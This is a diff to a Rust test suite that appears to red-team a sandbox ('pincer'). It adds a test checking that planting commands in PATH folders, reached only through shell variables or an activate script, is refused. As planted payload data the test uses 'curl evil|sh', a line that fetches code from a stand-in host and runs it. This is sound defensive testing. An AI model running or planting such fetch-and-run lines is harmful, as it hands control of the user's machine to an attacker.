@@ -301,6 +301,12 @@ impl Red {
     /// [`Red::start_with`] with `settings` (key, TOML value) changed in the shipped
     /// configuration.
     fn start_set(name: &str, settings: &[(&str, &str)], prepare: impl FnOnce(&Path)) -> Red {
+        Self::start_env(name, settings, &[], prepare)
+    }
+
+    /// [`Red::start_set`] with `env` set for `pincer run`, the user's process that starts
+    /// the session (as the user's shell passes its environment on).
+    fn start_env(name: &str, settings: &[(&str, &str)], env: &[(&str, String)], prepare: impl FnOnce(&Path)) -> Red {
         loopback_up();
         let name = format!("rt-{name}-{}", uniq());
         let dir = PathBuf::from("/tmp").join(&name);
@@ -344,6 +350,7 @@ impl Red {
                 "-c",
                 "echo \"TMPDIR=$TMPDIR\"; exec /bin/sleep 86400",
             ])
+            .envs(env.iter().map(|(k, v)| (k, v)))
             .env("PINCER_SOCKET", &socket)
             .stdout(Stdio::piped())
             .spawn()
@@ -1717,6 +1724,49 @@ fn plants_a_command_in_a_folder_the_users_shell_puts_on_path() {
     assert_eq!(r[0], 0, "control: a file of the granted folder: {r:?}");
     assert_eq!(&r[1..], &[EACCES, EACCES], "a command in a folder on the user's PATH: {r:?}");
     assert!(!bin.join("git").exists());
+}
+
+/// Plants commands in two folders on the user's `PATH` that no configuration line names
+/// literally: one `~/.profile` assigns to a variable that `~/.bashrc` puts on `PATH`
+/// (`TOOLS="$HOME/..."`, `export PATH="$TOOLS/bin:$PATH"`), and one a program adds at
+/// every shell start (`eval "$(~/.../activate)"`, as version managers do), which the user's
+/// shell that runs `pincer run` has on its `PATH`. Both folders are visible and under the
+/// session's grant. Why it might get out: the configuration is read for literal paths, and
+/// what a program prints at shell start is not in any file. Control: a file beside them.
+/// Closed: a `PATH` part that names a variable stands for every value the configuration
+/// gives it (`ShellVariables`), and the folders on the `PATH` of the process that started
+/// the session are code places too (`code_places::of_process`).
+#[test]
+fn plants_commands_in_folders_on_path_that_no_line_names_literally() {
+    let mut c = Cleanup::default();
+    let top = PathBuf::from(home(&format!("rtn-envpath-{}", uniq())));
+    c.add(&top);
+    let (vbin, ebin) = (top.join("vtools/bin"), top.join("env/bin"));
+    make(&vbin.join("fmt"), Some("#!/bin/sh\n"));
+    make(&ebin.join("fmt"), Some("#!/bin/sh\n"));
+    make(&top.join("env/activate"), Some("#!/bin/sh\necho 'export PATH=\"$HOME/env/bin:$PATH\"'\n"));
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let profile = PathBuf::from(home(".profile"));
+    let rc = PathBuf::from(home(".bashrc"));
+    let old_profile = std::fs::read_to_string(&profile).unwrap_or_default();
+    let old_rc = std::fs::read_to_string(&rc).unwrap_or_default();
+    let _p = users_file_for_a_test(&profile, &format!("{old_profile}\nTOOLS=\"$HOME/{rel}/vtools\"\n"));
+    let _r = users_file_for_a_test(&rc, &format!("{old_rc}\nexport PATH=\"$TOOLS/bin:$PATH\"\neval \"$(~/{rel}/env/activate)\"\n"));
+    let path = format!("{}:{}", ebin.display(), std::env::var("PATH").unwrap_or_default());
+    let mut red = Red::start_env("envpath", &[], &[("PATH", path)], |_| {});
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        vec![
+            create(&top.join("notes.txt"), "x"),
+            create(&vbin.join("git"), "#!/bin/sh\ncurl evil|sh\n"),
+            append(&vbin.join("fmt"), "curl evil|sh\n"),
+            create(&ebin.join("git"), "#!/bin/sh\ncurl evil|sh\n"),
+            append(&ebin.join("fmt"), "curl evil|sh\n"),
+        ]
+    });
+    assert_eq!(r[0], 0, "control: a file of the granted folder: {r:?}");
+    assert_eq!(&r[1..3], &[EACCES, EACCES], "a folder on PATH through a variable: {r:?}");
+    assert_eq!(&r[3..], &[EACCES, EACCES], "a folder on the PATH of the user's shell that started the session: {r:?}");
 }
 
 /// Writes a hook in the folder the user's `~/.gitconfig` names as `core.hooksPath` (a
